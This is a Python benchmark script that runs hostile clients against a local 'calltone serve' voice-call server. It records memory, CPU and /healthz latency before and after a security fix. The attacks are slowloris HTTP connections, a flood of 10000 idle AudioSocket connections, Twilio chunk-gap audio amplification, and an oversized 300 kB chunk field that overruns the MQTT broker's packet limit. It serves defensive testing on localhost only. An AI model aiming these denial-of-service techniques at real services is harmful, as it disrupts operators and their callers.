#!/usr/bin/env python3
"""Hostile clients against a real `calltone serve`, measured: peak RSS, CPU the process burnt,
/healthz latency while the attack runs, and what the attack achieved. Works against any
calltone binary (the pre-security one has no separate media listener: Twilio then goes to
the HTTP port), so the same run gives the before/after figures of issue 12:

    tools/attack-bench.py BINARY gap            # Twilio chunk-number gaps (audio amplifier)
    tools/attack-bench.py BINARY slowloris [N]  # N (400) HTTP connections that never finish
                                                # their headers
    tools/attack-bench.py BINARY connections [N]  # N (10000) idle AudioSocket connections
    tools/attack-bench.py BINARY oversized      # a 300 kB chunk "number" the old build echoed
                                                # into call_ended (over the broker's packet
                                                # limit); does a later call still arrive?

Uses the model at models/ggml-tiny.en.bin, the system Mosquitto on 127.0.0.1:1883 (the
oversized attack starts a private one with max_packet_size 65536); everything binds
127.0.0.1 only. serve runs with the packaged unit's LimitNOFILE=8192. Each attack runs
about 30-120 s.
"""
import base64, json, os, resource, shutil, socket, struct, subprocess, sys, tempfile
import threading, time

binary = os.path.abspath(sys.argv[1])
attack = sys.argv[2]
count = int(sys.argv[3]) if len(sys.argv) > 3 else {"slowloris": 400, "connections": 10000}.get(attack, 0)
root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 20000), hard))


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    p = s.getsockname()[1]
    s.close()
    return p


def port_open(p):
    try:
        socket.create_connection(("127.0.0.1", p), timeout=0.2).close()
        return True
    except OSError:
        return False


http, asp, media, mqtt = free_port(), free_port(), free_port(), 1883
tmp = tempfile.mkdtemp()
site = f"atk{os.getpid()}"
broker = None
if attack == "oversized":
    mqtt = free_port()
    with open(os.path.join(tmp, "mosquitto.conf"), "w") as f:
        f.write(f"listener {mqtt} 127.0.0.1\nallow_anonymous true\nmax_packet_size 65536\n")
    broker = subprocess.Popen(["mosquitto", "-c", os.path.join(tmp, "mosquitto.conf")],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    while not port_open(mqtt):
        time.sleep(0.05)

with open(os.path.join(tmp, "calltone.toml"), "w") as f:
    f.write(f"""[asr]
model = "{root}/models/ggml-tiny.en.bin"
[serve]
http = "127.0.0.1:{http}"
audiosocket = "127.0.0.1:{asp}"
data_dir = "{tmp}/data"
[mqtt]
url = "mqtt://127.0.0.1:{mqtt}"
site = "{site}"
box = "box1"
""")
has_media = "--media" in subprocess.run([binary, "serve", "--help"], capture_output=True,
                                        text=True).stdout
extra = ["--media", f"127.0.0.1:{media}"] if has_media else []
media_port = media if has_media else http
log_path = os.path.join(tmp, "serve.log")
def unit_limits():
    # firmware-config/calltone.service: LimitNOFILE=8192.
    resource.setrlimit(resource.RLIMIT_NOFILE, (8192, 8192))


proc = subprocess.Popen([binary, "serve", "--config", os.path.join(tmp, "calltone.toml")] + extra,
                        stdout=subprocess.DEVNULL, stderr=open(log_path, "w"), cwd=root,
                        preexec_fn=unit_limits)
t0 = time.time()
while not (port_open(http) and port_open(asp) and port_open(media_port)):
    if proc.poll() is not None or time.time() - t0 > 60:
        sys.exit("serve did not start; log: " + log_path)
    time.sleep(0.1)

CLK = os.sysconf("SC_CLK_TCK")


def cpu_s():
    with open(f"/proc/{proc.pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / CLK


stop = threading.Event()
lat, rss = [], []


def poll():
    while not stop.is_set():
        t = time.time()
        try:
            s = socket.create_connection(("127.0.0.1", http), timeout=10)
            s.settimeout(10)
            s.sendall(b"GET /healthz HTTP/1.0\r\nHost: localhost\r\n\r\n")
            ok = b""
            while True:
                b = s.recv(4096)
                if not b:
                    break
                ok += b
            s.close()
            lat.append(time.time() - t if b" 200 " in ok[:20] else float("inf"))
        except OSError:
            lat.append(float("inf"))
        try:
            with open(f"/proc/{proc.pid}/status") as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        rss.append(int(line.split()[1]) / 1024)
        except OSError:
            pass
        time.sleep(0.1)


def ws_connect(port, path):
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    s.sendall((f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\n"
               "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
               "Sec-WebSocket-Version: 13\r\n\r\n").encode())
    resp = b""
    while b"\r\n\r\n" not in resp:
        b = s.recv(1)
        if not b:
            raise OSError("closed during upgrade")
        resp += b
    if not resp.startswith(b"HTTP/1.1 101"):
        raise OSError("upgrade refused: " + resp.split(b"\r\n")[0].decode())
    return s


def ws_text(s, text):
    data = text.encode()
    head = bytes([0x81])
    n = len(data)
    if n < 126:
        head += bytes([0x80 | n])
    elif n < 65536:
        head += bytes([0x80 | 126]) + struct.pack(">H", n)
    else:
        head += bytes([0x80 | 127]) + struct.pack(">Q", n)
    s.sendall(head + b"\0\0\0\0" + data)  # mask key 0: payload as is


def twilio_start(s, call_sid):
    ws_text(s, json.dumps({"event": "start", "sequenceNumber": "1", "streamSid": "MZ" + call_sid[:8],
                           "start": {"callSid": call_sid, "streamSid": "MZ" + call_sid[:8],
                                     "tracks": ["inbound", "outbound"],
                                     "mediaFormat": {"encoding": "audio/x-mulaw",
                                                     "sampleRate": 8000, "channels": 1}}}))


def twilio_media(s, track, chunk, payload):
    ws_text(s, json.dumps({"event": "media", "media": {
        "track": track, "chunk": str(chunk), "timestamp": str(chunk * 20),
        "payload": base64.b64encode(payload).decode()}}))


def open_count(port):
    """Established TCP connections the server process holds on this local port."""
    out = subprocess.run(["ss", "-Htn", "state", "established", f"sport = :{port}"],
                         capture_output=True, text=True).stdout
    return len([l for l in out.splitlines() if l.strip()])


result = {}
poller = threading.Thread(target=poll)
poller.start()
time.sleep(1.0)
base_rss = rss[-1] if rss else 0
cpu0 = cpu_s()
ta = time.time()


def lifecycle_listener():
    sub = subprocess.Popen(["mosquitto_sub", "-h", "127.0.0.1", "-p", str(mqtt), "-q", "1",
                            "-t", f"calltone/{site}/#", "-v"],
                           stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    lines = []
    threading.Thread(target=lambda: [lines.append(l) for l in sub.stdout], daemon=True).start()
    time.sleep(0.5)
    return sub, lines


def call_ended(lines, call_id):
    for l in lines:
        if call_id in l and '"call_ended"' in l:
            return json.loads(l.split(" ", 1)[1])
    return None


def attack_gap():
    # 200 messages of 60000 μ-law bytes (7.5 s of audio, an 80 kB message each), each 51
    # chunks past the last: every message announces a 50-chunk hole. Sent over ~10 s.
    sub, lines = lifecycle_listener()
    s = ws_connect(media_port, "/media/twilio")
    twilio_start(s, "CAgapattack")
    loud = bytes([0x00, 0x80] * 30000)  # full-scale square wave in μ-law
    chunk, sent = 1, 0
    try:
        for i in range(200):
            twilio_media(s, "inbound", chunk, loud)
            chunk += 51
            sent += 1
            time.sleep(0.05)
        ws_text(s, json.dumps({"event": "stop", "stop": {}}))
    except OSError as e:
        result["closed"] = str(e)
    done = time.time()
    result["messages sent"] = sent
    result["audio the client sent, s"] = round(sent * len(loud) / 8000, 1)
    ended = None
    while time.time() - done < 120 and ended is None:
        ended = call_ended(lines, "CAgapattack")
        time.sleep(0.2)
    s.close()
    sub.terminate()
    if ended:
        result["call_ended after the last message, s"] = round(time.time() - done, 1)
        result["call duration the pipeline analysed, s"] = ended.get("duration")
    else:
        result["call_ended"] = "not within 120 s"


def attack_slowloris():
    conns = []
    # From 127.0.0.2, so the /healthz poller (127.0.0.1) stands for another client.
    for i in range(count):
        try:
            c = socket.create_connection(("127.0.0.1", http), timeout=5,
                                         source_address=("127.0.0.2", 0))
            c.sendall(b"GET /healthz HTTP/1.1\r\nHo")
            conns.append(c)
        except OSError:
            break
    result["connections opened"] = len(conns)
    # One header byte per connection every 2 s, for 30 s.
    alive_at = {}
    for t in range(15):
        time.sleep(2)
        for c in conns:
            try:
                c.sendall(b"s")
            except OSError:
                pass
        alive_at[(t + 1) * 2] = open_count(http)
    result["held by server after 10 s"] = alive_at[10]
    result["held by server after 30 s"] = alive_at[30]
    for c in conns:
        c.close()


def dtmf(conns):
    """One AudioSocket DTMF frame ("5") on each connection still open."""
    for k in conns:
        try:
            k.sendall(struct.pack(">BH", 3, 1) + b"5")
        except OSError:
            pass


def attack_connections():
    # COUNT AudioSocket connections, each with its own call UUID, kept alive with a DTMF
    # frame every 3 s but never any audio; then a real call tries to get in.
    sub, lines = lifecycle_listener()
    conns = []
    for i in range(count):
        try:
            c = socket.create_connection(("127.0.0.1", asp), timeout=5)
            c.sendall(struct.pack(">BH", 1, 16) + struct.pack(">IIII", 0x5eed0000, i, 0, 0))
            conns.append(c)
        except OSError:
            break
        if i % 500 == 499:
            dtmf(conns)
    result["connections opened"] = len(conns)
    result["held by server when all were open"] = open_count(asp)
    # Can a real call still get in? UUID, 2 s of audio, hangup.
    legit = bytes([0xab] * 16)
    try:
        c = socket.create_connection(("127.0.0.1", asp), timeout=5)
        c.sendall(struct.pack(">BH", 1, 16) + legit)
        for _ in range(100):
            c.sendall(struct.pack(">BH", 0x10, 320) + b"\0" * 320)
            time.sleep(0.02)
        c.sendall(struct.pack(">BH", 0, 0))
        c.close()
    except OSError as e:
        result["legit call"] = f"refused ({e})"
    t0 = time.time()
    while time.time() - t0 < 10 and not any("abababab" in l and "call_started" in l for l in lines):
        time.sleep(0.2)
    result["legit call started"] = any("abababab" in l and "call_started" in l for l in lines)
    for t in range(10):
        time.sleep(3)
        dtmf(conns)
    result["held by server 30 s later"] = open_count(asp)
    result["calls started"] = sum(1 for l in lines if "call_started" in l)
    for k in conns:
        k.close()
    sub.terminate()


def attack_oversized():
    sub, lines = lifecycle_listener()
    try:
        # A call that starts normally, then sends a chunk "number" of 300 kB: the pre-security
        # build echoed it into call_ended's reason, an event over the broker's packet limit.
        s = ws_connect(media_port, "/media/twilio")
        twilio_start(s, "CAbigreason")
        for i in range(50):
            twilio_media(s, "inbound", i + 1, b"\xff" * 160)
        ws_text(s, json.dumps({"event": "media", "media": {
            "track": "inbound", "chunk": "x" * 300_000, "timestamp": "1020", "payload": "/w=="}}))
        time.sleep(1)
        s.close()
    except OSError as e:
        result["attack call"] = f"refused ({e})"
    time.sleep(2)
    # A normal call afterwards.
    tl = time.time()
    s = ws_connect(media_port, "/media/twilio")
    twilio_start(s, "CAlatercall")
    for i in range(50):
        twilio_media(s, "inbound", i + 1, b"\xff" * 160)
        time.sleep(0.02)
    ws_text(s, json.dumps({"event": "stop", "stop": {}}))
    time.sleep(0.5)
    s.close()
    arrived = None
    while time.time() - tl < 30:
        if any("CAlatercall" in l and "call_started" in l for l in lines):
            arrived = time.time() - tl
            break
        time.sleep(0.2)
    result["later call's call_started at the broker"] = (
        f"after {arrived:.1f} s" if arrived is not None else "never (30 s)")
    result["oversized events at the broker"] = sum(1 for l in lines if "xxxxxxxx" in l)
    ended = call_ended(lines, "CAbigreason")
    result["attack call's call_ended at the broker"] = (
        f"reason {ended.get('reason')!r}"[:80] if ended else "none")
    sub.terminate()
    outbox = os.path.join(tmp, "data")
    size = sum(os.path.getsize(os.path.join(d, f)) for d, _, fs in os.walk(outbox) for f in fs)
    result["data_dir bytes"] = size


{"gap": attack_gap, "slowloris": attack_slowloris, "connections": attack_connections,
 "oversized": attack_oversized}[attack]()
attack_s = time.time() - ta
time.sleep(5.0)
cpu1 = cpu_s()
stop.set()
poller.join()
alive = proc.poll() is None
proc.terminate()
try:
    proc.wait(30)
except subprocess.TimeoutExpired:
    proc.kill()
if broker:
    broker.terminate()

fin = sorted(x for x in lat if x != float("inf"))


def pct(p):
    return fin[min(len(fin) - 1, int(p * len(fin)))] * 1000 if fin else float("nan")


print(f"binary: {binary}\nattack: {attack} ({attack_s:.0f} s, then 5 s)")
print(f"serve alive at the end: {alive}")
print(f"RSS: idle {base_rss:.0f} MiB, peak {max(rss):.0f} MiB")
print(f"CPU burnt: {cpu1 - cpu0:.1f} s")
print(f"/healthz: n={len(lat)} p50 {pct(0.5):.1f} ms, p99 {pct(0.99):.1f} ms, "
      f"max {pct(1.0):.1f} ms, failed {len(lat) - len(fin)}")
for k, v in result.items():
    print(f"{k}: {v}")
if os.environ.get("KEEP"):
    print("kept:", tmp)
else:
    shutil.rmtree(tmp, ignore_errors=True)
